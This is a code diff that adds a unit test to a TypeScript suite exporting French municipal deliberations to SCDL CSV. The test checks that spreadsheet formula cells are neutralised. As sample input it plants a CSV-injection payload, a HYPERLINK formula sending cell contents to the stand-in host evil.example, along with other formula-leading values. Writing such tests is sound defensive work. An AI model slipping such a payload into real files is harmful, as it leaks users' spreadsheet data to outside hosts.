@@ -339,6 +339,19 @@ describe('export: SCDL Délibérations CSV', () => {
     assert.ok(SCDL_REQUIRED.every((f) => given.rows[0][f] !== ''));
     assert.equal(parseCsv(toCsv(given.rows))[1][SCDL_FIELDS.indexOf('DELIB_OBJET')], r.DELIB_OBJET, 'quoted and read back');
   });
+
+  it('neutralises a cell a spreadsheet would run as a formula (CSV injection), in the act and in the options', () => {
+    const act = ACT.replace("Objet : Subvention à l'école de musique & convention <annuelle>", 'Objet : =HYPERLINK("http://evil.example/?x="&A1;"cliquer")');
+    const { rows } = scdlRows(analyze(act).model, 'acte.delib', { collectivity: '+SUM(1,2)', matiereCode: '-7.5', matiereNom: '@cmd', siret: '21250537400018' });
+    const cells = parseCsv(toCsv(rows))[1];
+    const cell = (f: (typeof SCDL_FIELDS)[number]) => cells[SCDL_FIELDS.indexOf(f)];
+    assert.equal(cell('DELIB_OBJET'), `'${rows[0].DELIB_OBJET}`);
+    assert.ok(rows[0].DELIB_OBJET.startsWith('=HYPERLINK('), rows[0].DELIB_OBJET);
+    assert.deepEqual([cell('COLL_NOM'), cell('DELIB_MATIERE_CODE'), cell('DELIB_MATIERE_NOM')], ["'+SUM(1,2)", "'-7.5", "'@cmd"]);
+    // Figures and ordinary text are written as they are.
+    assert.deepEqual([cell('VOTE_POUR'), cell('DELIB_DATE'), cell('COLL_SIRET')], ['4', '2025-04-14', '21250537400018']);
+    for (const c of cells) assert.ok(!/^[=+\-@\t\r]/.test(c), c);
+  });
 });
 
 describe('export: SCDL rows of a register', () => {
